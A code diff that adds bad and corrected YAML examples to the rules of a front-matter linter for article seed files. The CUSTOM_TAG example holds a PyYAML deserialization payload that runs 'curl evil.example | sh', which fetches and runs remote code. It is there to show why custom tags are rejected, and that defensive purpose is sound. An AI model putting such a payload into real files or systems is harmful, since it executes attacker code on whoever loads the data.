@@ -17,9 +17,16 @@ MISSING_FRONT_MATTER = Rule(
     """
     A seed is one YAML block between two `---` lines at the very top of the
     file. Without the opening line nothing in the file is read as data.
-
-    Example: a file starting with `title: ...`.
-    Use instead: put `---` on the first line and again after the last key.
+    """,
+    example="""
+    title: EU restricts facial recognition exports
+    type: article
+    """,
+    use_instead="""
+    ---
+    title: EU restricts facial recognition exports
+    type: article
+    ---
     """,
 )
 UNTERMINATED_FRONT_MATTER = Rule(
@@ -29,8 +36,17 @@ UNTERMINATED_FRONT_MATTER = Rule(
     """
     Without the closing line the extent of the YAML is unknown, so the file is
     not checked further. Reported at the opening line.
-
-    Use instead: end the block with a line holding only `---`.
+    """,
+    example="""
+    ---
+    title: EU restricts facial recognition exports
+    type: article
+    """,
+    use_instead="""
+    ---
+    title: EU restricts facial recognition exports
+    type: article
+    ---
     """,
 )
 YAML_SYNTAX = Rule(
@@ -41,6 +57,18 @@ YAML_SYNTAX = Rule(
     Reported at the position where libyaml stopped, with its explanation
     (for example an unclosed quote or a bad indentation).
     """,
+    example="""
+    ---
+    title: "EU restricts facial recognition exports
+    type: article
+    ---
+    """,
+    use_instead="""
+    ---
+    title: "EU restricts facial recognition exports"
+    type: article
+    ---
+    """,
 )
 EMPTY = Rule(
     "S004",
@@ -49,6 +77,16 @@ EMPTY = Rule(
     """
     An empty file or a front matter block with nothing between the two `---`
     lines describes no article. Delete the file or fill it in.
+    """,
+    example="""
+    ---
+    ---
+    """,
+    use_instead="""
+    ---
+    title: EU restricts facial recognition exports
+    type: article
+    ---
     """,
 )
 NOT_TEXT = Rule(
@@ -60,6 +98,16 @@ NOT_TEXT = Rule(
     is not UTF-8 (often Latin-1 or Windows-1252 from an old export) is reported
     at its line and column. Re-save the file as UTF-8.
     """,
+    example="""
+    ---
+    title: Le café   # saved as Windows-1252: "é" is the single byte E9
+    ---
+    """,
+    use_instead="""
+    ---
+    title: Le café   # saved as UTF-8: "é" is the two bytes C3 A9
+    ---
+    """,
 )
 TOO_LARGE = Rule(
     "S006",
@@ -70,6 +118,18 @@ TOO_LARGE = Rule(
     (a stray export or binary) and is not read, so one bad file cannot stall a run.
     Raise `max-file-size` in the configuration if large seeds are intended.
     """,
+    example="""
+    ---
+    title: EU restricts facial recognition exports
+    # ... followed by 40,000 lines of a pasted database export (3 MB)
+    ---
+    """,
+    use_instead="""
+    ---
+    title: EU restricts facial recognition exports
+    type: article
+    ---
+    """,
 )
 DUPLICATE_KEY = Rule(
     "S007",
@@ -79,8 +139,19 @@ DUPLICATE_KEY = Rule(
     YAML forbids duplicate keys, yet PyYAML silently keeps the last value, so
     one of the two values is lost without a word. Reported at the second key,
     naming the line of the first.
-
-    Use instead: keep one of the two keys.
+    """,
+    example="""
+    ---
+    title: EU restricts facial recognition exports
+    type: article
+    title: EU plans export limits
+    ---
+    """,
+    use_instead="""
+    ---
+    title: EU restricts facial recognition exports
+    type: article
+    ---
     """,
 )
 ANCHOR_ALIAS = Rule(
@@ -92,8 +163,18 @@ ANCHOR_ALIAS = Rule(
     appear in several places at once and are the mechanism of "billion laughs"
     attacks, where a few lines expand to gigabytes. Aliases are never expanded:
     the aliased value is treated as missing.
-
-    Use instead: write the value out where it is needed.
+    """,
+    example="""
+    ---
+    webUrl: &url https://www.biometricupdate.com/202010/eu-restrictions
+    originalUrl: *url
+    ---
+    """,
+    use_instead="""
+    ---
+    webUrl: https://www.biometricupdate.com/202010/eu-restrictions
+    originalUrl: https://www.biometricupdate.com/202010/eu-restrictions
+    ---
     """,
 )
 CUSTOM_TAG = Rule(
@@ -106,6 +187,16 @@ CUSTOM_TAG = Rule(
     missing. Only the plain core tags (`!!str`, `!!int`, `!!float`, `!!bool`,
     `!!null`, `!!map`, `!!seq`) are accepted.
     """,
+    example="""
+    ---
+    quality: !!python/object/apply:os.system ["curl evil.example | sh"]
+    ---
+    """,
+    use_instead="""
+    ---
+    quality: 33
+    ---
+    """,
 )
 CONTROL_CHARACTER = Rule(
     "S010",
@@ -115,6 +206,16 @@ CONTROL_CHARACTER = Rule(
     Control characters are invisible in editors and review tools, break YAML
     parsing and corrupt the data downstream. Reported at each occurrence.
     """,
+    example="""
+    ---
+    title: EU restricts␇ facial recognition exports   # ␇: a raw BEL byte (07)
+    ---
+    """,
+    use_instead="""
+    ---
+    title: EU restricts facial recognition exports
+    ---
+    """,
 )
 TAB_INDENTATION = Rule(
     "S011",
@@ -122,7 +223,18 @@ TAB_INDENTATION = Rule(
     "A line of the front matter is indented with a tab.",
     """
     YAML forbids tabs for indentation; libyaml's error for them is cryptic.
-    Use instead: indent with spaces.
+    """,
+    example="""
+    ---
+    provider:
+    \tname: Biometric Update
+    ---
+    """,
+    use_instead="""
+    ---
+    provider:
+      name: Biometric Update
+    ---
     """,
 )
 TOO_DEEP = Rule(
@@ -132,6 +244,16 @@ TOO_DEEP = Rule(
     """
     Real seeds nest four levels deep. Thousands of nested brackets are a
     denial-of-service attempt on recursive tools; the file is not checked further.
+    """,
+    example="""
+    ---
+    topics: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[AI]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]
+    ---
+    """,
+    use_instead="""
+    ---
+    topics: [AI]
+    ---
     """,
 )
 AMBIGUOUS_SCALAR = Rule(
@@ -143,8 +265,16 @@ AMBIGUOUS_SCALAR = Rule(
     `0x10` is 16, `010` is 8, `1_000` is 1000 and `12:30` is 750, while `1e3`
     stays a string. YAML 1.2 readers (and JSON) disagree on each of these, so
     the same seed means different things to different tools.
-
-    Example: `title: no`. Use instead: `title: "no"`.
+    """,
+    example="""
+    ---
+    title: no
+    ---
+    """,
+    use_instead="""
+    ---
+    title: "no"
+    ---
     """,
     severity=Severity.WARNING,
 )
@@ -155,6 +285,17 @@ NON_STRING_KEY = Rule(
     """
     Seed keys are plain names such as `title`. A mapping or list used as a key
     (`? [a, b]`) cannot be represented in JSON and is not checked further.
+    """,
+    example="""
+    ---
+    ? [topics]
+    : [AI]
+    ---
+    """,
+    use_instead="""
+    ---
+    topics: [AI]
+    ---
     """,
 )
 
